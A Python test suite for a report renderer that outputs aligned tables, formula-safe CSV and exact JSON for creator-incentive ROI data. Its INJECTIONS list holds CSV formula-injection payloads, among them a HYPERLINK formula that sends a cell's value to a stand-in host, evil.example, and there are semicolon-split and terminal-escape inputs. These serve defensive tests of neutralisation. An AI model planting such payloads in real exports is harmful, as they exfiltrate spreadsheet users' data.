"""Report rendering: aligned table, formula-safe CSV, exact JSON."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sync.report_render import (
    FORMULA_TRIGGERS,
    NO_VALUE,
    Column,
    neutralize_formula,
    render_csv,
    render_json,
    render_table,
)

COLUMNS = [
    Column("creator", "Creator", "text"),
    Column("incentive", "Incentive", "text"),
    Column("redemptions", "Redemptions", "int"),
    Column("cost", "Cost", "money"),
    Column("revenue", "Revenue", "money"),
    Column("roi", "ROI", "ratio"),
]


def row(**overrides: object) -> dict[str, object]:
    base: dict[str, object] = {
        "creator": "@ana",
        "incentive": "Summer kit",
        "redemptions": 3,
        "cost": Decimal("40.00"),
        "revenue": Decimal("125.00"),
        "roi": Decimal("2.125"),
    }
    return base | overrides


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


# --- table -------------------------------------------------------------------------------


def test_table_shows_title_headers_and_right_aligned_numbers() -> None:
    text = render_table(
        "ROI — Summer",
        COLUMNS,
        [row(), row(creator="@bo", redemptions=12, roi=None)],
        console_width=120,
    )
    lines = text.splitlines()
    assert lines[0].strip() == "ROI — Summer"
    assert "Creator" in text and "Redemptions" in text
    ana = next(line for line in lines if "@ana" in line)
    bo = next(line for line in lines if "@bo" in line)
    assert "40.00" in ana and "125.00" in ana and "212.5%" in ana
    assert NO_VALUE in bo
    # Right alignment: the redemption counts end in the same column.
    assert ana.index("3 ") + 1 == bo.index("12 ") + 2


def test_table_shows_money_as_given_with_thousands_separators() -> None:
    text = render_table(
        "t", [Column("v", "V", "money")], [{"v": Decimal("1234567.5")}], console_width=60
    )
    assert "1,234,567.5" in text


def test_table_money_column_with_places_pads_to_the_currency_minor_units() -> None:
    text = render_table(
        "t", [Column("v", "V", "money", places=2)], [{"v": Decimal(0)}], console_width=60
    )
    assert "0.00" in text


@pytest.mark.parametrize(
    ("ratio", "shown"),
    [
        (Decimal("2.125"), "212.5%"),
        (Decimal("-0.25"), "-25.0%"),
        (Decimal("0.00049"), "0.0%"),
        (Decimal("0.0005"), "0.1%"),
        (1.5, "150.0%"),
        (0, "0.0%"),
    ],
)
def test_table_shows_ratio_as_percent_with_one_decimal(ratio: object, shown: str) -> None:
    text = render_table("t", [Column("r", "ROI", "ratio")], [{"r": ratio}], console_width=40)
    assert shown in text


def test_table_does_not_interpret_markup_or_terminal_escapes_in_text() -> None:
    text = render_table(
        "[bold]t[/bold]",
        [Column("h", "Handle", "text")],
        [{"h": "[red]x[/red] [/oops]"}, {"h": "\x1b[2Jwipe\u202e"}],
        console_width=80,
    )
    assert "[red]x[/red] [/oops]" in text and "[bold]t[/bold]" in text
    assert "\x1b" not in text and "\u202e" not in text
    assert "\\u001b[2Jwipe\\u202e" in text


def test_table_keeps_numbers_whole_in_a_narrow_console() -> None:
    text = render_table("t", COLUMNS, [row(revenue=Decimal("123456789.00"))], console_width=50)
    assert "123,456,789.00" in text


def test_table_refuses_float_money() -> None:
    with pytest.raises(TypeError, match="refuses floats"):
        render_table("t", COLUMNS, [row(cost=40.0)])


def test_missing_value_names_the_row_and_column() -> None:
    bad = row()
    del bad["roi"]
    with pytest.raises(KeyError, match="report row 2 has no 'roi' value"):
        render_csv(COLUMNS, [row(), bad])


# --- CSV ---------------------------------------------------------------------------------


def test_csv_writes_keys_as_header_and_numbers_exactly() -> None:
    rows = csv_rows(render_csv(COLUMNS, [row(), row(roi=None, cost=Decimal("1E+3"))]))
    assert rows[0] == ["creator", "incentive", "redemptions", "cost", "revenue", "roi"]
    # "@ana" is a handle, but "@" starts a formula in Excel: neutralised like any other.
    assert rows[1] == ["'@ana", "Summer kit", "3", "40.00", "125.00", "2.1250"]
    assert rows[2][3:] == ["1000", "125.00", ""]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_csv_neutralises_formulas_in_creator_handles(payload: str) -> None:
    [_, cells] = csv_rows(render_csv(COLUMNS, [row(creator=payload)]))
    assert cells[0] == "'" + payload


@pytest.mark.parametrize("payload", INJECTIONS)
def test_csv_neutralises_formulas_in_incentive_descriptions(payload: str) -> None:
    [_, cells] = csv_rows(render_csv(COLUMNS, [row(incentive=payload)]))
    assert cells[1] == "'" + payload


def test_csv_keeps_negative_numbers_as_numbers() -> None:
    [_, cells] = csv_rows(render_csv(COLUMNS, [row(roi=Decimal("-0.25"))]))
    assert cells[5] == "-0.2500"


def test_csv_neutralises_a_number_typed_into_a_text_column() -> None:
    [_, cells] = csv_rows(render_csv(COLUMNS, [row(creator=-5)]))
    assert cells[0] == "'-5"


def test_csv_refuses_text_in_a_numeric_column_rather_than_writing_it() -> None:
    with pytest.raises(TypeError, match="expects a Decimal"):
        render_csv(COLUMNS, [row(roi="=1+1")])
    with pytest.raises(TypeError, match="expects an int"):
        render_csv(COLUMNS, [row(redemptions="@SUM(A1)")])


def test_csv_quotes_commas_quotes_and_line_breaks_in_text() -> None:
    tricky = 'Kit, "large"\nsecond line'
    [_, cells] = csv_rows(render_csv(COLUMNS, [row(incentive=tricky)]))
    assert cells[1] == tricky


@pytest.mark.parametrize("payload", ["KIT;=1+1", "x;@SUM(A1:A9)", "a;b;-2+3", "SUMMER;+1"])
def test_csv_quotes_semicolons_so_a_semicolon_locale_cannot_split_a_formula_out(
    payload: str,
) -> None:
    text = render_csv(COLUMNS, [row(creator=payload)])
    # A spreadsheet in a decimal-comma locale splits lines on ";" (and honours quotes).
    for cells in list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in cells)
    [_, cells] = csv_rows(text)
    assert cells[0] == payload


@given(st.text(max_size=30))
def test_csv_text_cell_never_starts_with_a_formula_trigger_and_keeps_the_text(
    text: str,
) -> None:
    [_, cells] = csv_rows(render_csv(COLUMNS, [row(creator=text)]))
    cell = cells[0]
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell in (text, "'" + text)
    assert neutralize_formula(text) == cell


# --- JSON --------------------------------------------------------------------------------


def test_json_keeps_money_and_ratios_exact_as_strings_and_ints_as_ints() -> None:
    [item] = json.loads(render_json(COLUMNS, [row(extra="ignored")]))
    assert item == {
        "creator": "@ana",
        "incentive": "Summer kit",
        "redemptions": 3,
        "cost": "40.00",
        "revenue": "125.00",
        "roi": "2.1250",
    }


def test_json_uses_null_for_no_value_and_keeps_column_order() -> None:
    text = render_json(COLUMNS, [row(roi=None, creator=None)])
    [item] = json.loads(text)
    assert item["roi"] is None and item["creator"] is None
    assert list(item) == [c.key for c in COLUMNS]
    assert text.index('"creator"') < text.index('"roi"')


def test_json_of_no_rows_is_an_empty_array() -> None:
    assert json.loads(render_json(COLUMNS, [])) == []
